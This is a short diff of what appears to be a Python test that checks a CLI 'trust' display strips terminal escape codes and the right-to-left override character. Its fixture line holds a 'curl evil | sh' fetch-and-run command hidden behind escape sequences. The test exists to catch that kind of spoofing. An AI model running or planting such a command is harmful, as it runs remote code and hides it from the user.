@@ -315,7 +315,7 @@ tracing: {otlp_endpoint: "https://collect.example"}
     )
     (project / ".env").write_text("MY_TOKEN=hidden-value\nUNUSED=1\n")
     shown = _command(project, "trust").stdout
-    assert shown.isascii() or "\u202e" not in shown
+    assert "\u202e" not in shown
     assert "\x1b" not in shown
     for line in (
         "a: starts sh -c --token 'curl evil | sh' '\\x1b[2K\\rnothing to see\\u202e'",
